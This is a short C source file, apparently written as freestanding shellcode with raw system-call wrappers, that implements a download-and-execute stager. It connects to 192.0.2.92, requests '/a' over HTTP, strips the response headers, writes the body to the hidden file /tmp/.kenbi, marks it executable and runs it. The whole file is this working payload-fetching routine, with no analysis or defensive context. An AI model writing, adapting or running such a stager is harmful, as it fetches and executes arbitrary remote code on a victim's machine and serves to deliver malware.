/* Asks a server for a program by HTTP, writes it to a file and executes that. */
#include "system.h"

static long length_of(const char *text)
{
	long length = 0;

	while (text[length])
		length++;
	return length;
}

static long ask(const char *question)
{
	struct address address = { 2, 0x5000, { 192, 0, 2, 92 }, { 0 } };
	long connection = call_socket(SOCKET, 2, 1, 0);

	if (call_socket(CONNECT, connection, (long)&address, sizeof address) < 0)
		call_system(EXIT, 1, 0, 0);
	call_system(WRITE, connection, (long)question, length_of(question));
	return connection;
}

/* Passes over the head of the answer: up to an empty line. */
static void pass_head(long connection)
{
	char letter;

	for (int lines = 0; lines < 2;) {
		if (call_system(READ, connection, (long)&letter, 1) <= 0)
			return;
		if (letter == '\n')
			lines++;
		else if (letter != '\r')
			lines = 0;
	}
}

static void save(long connection, const char *path)
{
	char content[512];
	long file = call_system(OPEN, (long)path, 01101, 0700), length;

	while ((length = call_system(READ, connection, (long)content, sizeof content)) > 0)
		call_system(WRITE, file, (long)content, length);
	call_system(CLOSE, file, 0, 0);
}

ENTRY void code(void)
{
	const char *path = "/tmp/.kenbi";
	long connection = ask("GET /a HTTP/1.0\r\nHost: 192.0.2.92\r\n\r\n");

	pass_head(connection);
	save(connection, path);
	call_system(CHMOD, (long)path, 0755, 0);
	execute(path, 0, 0);
}
